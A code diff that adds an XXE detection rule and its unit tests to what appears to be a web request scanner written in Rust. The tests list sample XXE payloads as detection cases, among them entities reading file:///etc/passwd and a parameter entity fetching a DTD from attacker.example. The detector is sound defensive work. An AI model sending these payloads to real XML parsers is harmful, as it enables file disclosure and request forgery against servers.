@@ -697,6 +697,48 @@ fn claims_loopback(list: &str) -> bool {
     })
 }
 
+/// XML entities and DTDs, the means of XXE: an entity declaration (external entities read
+/// files and URLs, nested internal ones expand a billion times), an internal DTD subset,
+/// or an external DTD by a scheme other than HTTP (`file:`, `jar:`, `php:`, `expect:`...) at
+/// paranoia 1; any other external DTD from paranoia 2, since document types such as cXML,
+/// plist and SVG 1.1 name theirs by URL and parsers that load them are rare.
+pub(crate) fn xml_entities(v: &Variants, sink: &mut Sink<'_>) {
+    let text = v.lower();
+    if !text.contains("<!") {
+        return;
+    }
+    let Some(doctype) = text.find("<!doctype").or_else(|| text.find("<!entity")) else {
+        return;
+    };
+    let decl = &text[doctype..];
+    let head = &decl[..decl.find(['>', '[']).map_or(decl.len(), |e| e + 1)];
+    if text.contains("<!entity") || head.ends_with('[') {
+        sink.hit(PROTO_XXE, text, doctype);
+        return;
+    }
+    let external = ["system", "public"].iter().find_map(|k| {
+        let at = head.find(k)?;
+        let id = head[at + k.len()..].trim_start();
+        // PUBLIC names a public id first, then the system id.
+        let id = if *k == "public" {
+            let q = id.chars().next().filter(|c| *c == '"' || *c == '\'')?;
+            id[1..].split_once(q)?.1.trim_start()
+        } else {
+            id
+        };
+        let q = id.chars().next().filter(|c| *c == '"' || *c == '\'')?;
+        Some(id[1..].split(q).next().unwrap_or(""))
+    });
+    if let Some(url) = external {
+        let web = url.starts_with("http://") || url.starts_with("https://");
+        if !web && url.contains(':') {
+            sink.hit(PROTO_XXE, text, doctype);
+        } else {
+            sink.hit(PROTO_EXTERNAL_DTD, text, doctype);
+        }
+    }
+}
+
 /// Checks on one input's bytes.
 pub(crate) fn input_checks(input: &Input, v: &Variants, sink: &mut Sink<'_>) {
     if v.had_nul || input.value.contains(&0) {
@@ -986,5 +1028,48 @@ mod tests {
         ] {
             assert!(!valid_content_type(bad.as_bytes()), "{bad}");
         }
+    }
+
+    #[test]
+    fn xml_entities_and_document_types() {
+        use crate::detect::testing::{hits, rule};
+        rule(
+            PROTO_XXE,
+            true,
+            Kind::Declaration,
+            "xml:!declaration",
+            1,
+            &[
+                r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
+                r#"<!DOCTYPE x SYSTEM "file:///etc/passwd">"#,
+                r#"<!doctype x PUBLIC "-//A//B" 'jar:http://e.example/x.jar!/a.dtd'>"#,
+                r#"<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">"#,
+            ],
+        );
+        // In any value too: a document in a form field.
+        assert!(
+            hits(
+                Kind::Value,
+                "form:xml",
+                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>",
+                1
+            )
+            .contains(&PROTO_XXE)
+        );
+        let public = [
+            r#"<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">"#,
+            r#"<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">"#,
+        ];
+        for d in public {
+            assert!(
+                hits(Kind::Declaration, "xml:!declaration", d, 1).is_empty(),
+                "{d}"
+            );
+            assert!(
+                hits(Kind::Declaration, "xml:!declaration", d, 2).contains(&PROTO_EXTERNAL_DTD),
+                "{d}"
+            );
+        }
+        assert!(hits(Kind::Declaration, "xml:!declaration", "<!DOCTYPE html>", 4).is_empty());
     }
 }
